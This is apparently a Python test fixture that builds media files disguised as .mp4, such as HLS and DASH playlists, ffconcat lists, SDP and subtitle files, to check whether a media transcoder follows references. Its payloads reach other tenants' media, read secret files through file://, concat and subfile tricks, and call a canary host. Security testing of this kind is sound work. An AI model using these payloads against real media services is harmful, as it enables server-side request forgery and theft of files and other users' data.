"""Texts that point elsewhere, each to be named .mp4: to another tenant's media, a secret file, the network.

`{relative}` and `{absolute}` name the victim's media without its extension, `{secret}` a file, `{canary}` host:port.
"""

from __future__ import annotations

MPD = """<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S"
profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"
bandwidth="1"><BaseURL>{0}</BaseURL></Representation></AdaptationSet></Period></MPD>"""
HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:4\n{0}#EXTINF:4,\n{1}\n#EXT-X-ENDLIST\n"
KEY = '#EXT-X-KEY:METHOD=AES-128,URI="{0}"\n'
MAP = '#EXT-X-MAP:URI="{0}"\n'
SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\n"

POINTERS = {
    "hls relative": HLS.format("", "{relative}.ts"),
    "hls absolute": HLS.format("", "{absolute}.ts"),
    "hls file": HLS.format("", "file://{secret}"),
    "hls http": HLS.format("", "http://{canary}/x.ts"),
    "hls key": HLS.format(KEY.format("http://{canary}/key"), "{absolute}.ts"),
    "hls key from a file": HLS.format(KEY.format("{secret}"), "{absolute}.ts"),
    "hls map": HLS.format(MAP.format("http://{canary}/init.mp4"), "{absolute}.ts"),
    "hls through concat": HLS.format("", "concat:http://{canary}/x.ts|file://{secret}"),
    "concat relative": "ffconcat version 1.0\nfile {relative}.mp4\n",
    "concat absolute": "ffconcat version 1.0\nfile {absolute}.mp4\n",
    "concat http": "ffconcat version 1.0\nfile http://{canary}/x.mp4\n",
    "concat subfile": "ffconcat version 1.0\nfile 'subfile,,start,0,end,0,,:{secret}'\n",
    "dash relative": MPD.format("{relative}.mp4"),
    "dash http": MPD.format("http://{canary}/x.mp4"),
    "sdp": SDP,
    "m3u winamp": "[playlist]\nFile1=http://{canary}/x.mp3\nNumberOfEntries=1\n",
    "asx": '<asx version="3.0"><entry><ref href="http://{canary}/x.wmv"/></entry></asx>',
    "smil": '<smil><body><video src="http://{canary}/x.mp4"/></body></smil>',
    "quicktime reference": "RTSPtext\nrtsp://{canary}/x\n",
}
TEXTS = {
    "ansi": "\x1b[31m red \x1b[0m\n" * 50,
    "srt": "1\n00:00:00,000 --> 00:00:04,000\nhello <img src=http://{canary}/x>\n",
    "ass": "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {secret}\n",
    "vtt": "WEBVTT\n\nSTYLE\n::cue {{ background: url(http://{canary}/x) }}\n",
    "lrc": "[00:01.00]hello\n[00:02.00]{secret}\n",
}
"""Demuxers of subtitles and terminals take these; to us they are documents."""


def fill(text: str, *, relative: str, absolute: str, secret: str, canary: str) -> bytes:
    return text.format(relative=relative, absolute=absolute, secret=secret, canary=canary).encode()
